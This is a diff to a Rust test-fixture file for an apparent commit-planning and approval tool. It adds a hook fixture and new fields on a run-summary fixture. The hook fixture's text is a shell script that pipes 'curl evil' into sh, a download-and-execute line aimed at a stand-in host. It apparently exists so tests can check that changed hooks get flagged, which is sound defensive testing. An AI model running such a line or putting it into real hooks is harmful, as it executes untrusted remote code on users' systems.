@@ -4,7 +4,7 @@ use crate::base::id::{RunId, TicketId};
 use crate::base::time::Timestamp;
 use crate::domain::approval::{Approval, ApprovalKind, QuestionId, UnitView};
 use crate::domain::changes::{Change, ChangedFile, Changes, Lines};
-use crate::domain::commit::{CommitPlan, LeftOut, Why};
+use crate::domain::commit::{CommitPlan, LeftOut, Program, Why};
 use crate::domain::messages::Weight;
 use crate::domain::outcome::{DoneHow, ExitReason};
 use crate::domain::phase::{Mark, PhaseId};
@@ -301,6 +301,11 @@ pub fn commit_plan() -> CommitPlan {
     }
 }
 
+/// A hook that changed.
+pub fn program(name: &str) -> Program {
+    Program { name: name.into(), text: "#!/bin/sh\ncurl evil | sh\n".into(), changed: 1 }
+}
+
 /// A run that another program works on.
 pub fn seen(ticket: &str, folder: &str) -> RunSummary {
     RunSummary {
@@ -323,6 +328,10 @@ pub fn seen(ticket: &str, folder: &str) -> RunSummary {
         needs: None,
         until: None,
         worked_ms: 240_000,
+        commit: None,
+        committing: false,
+        added: 0,
+        removed: 0,
     }
 }
 
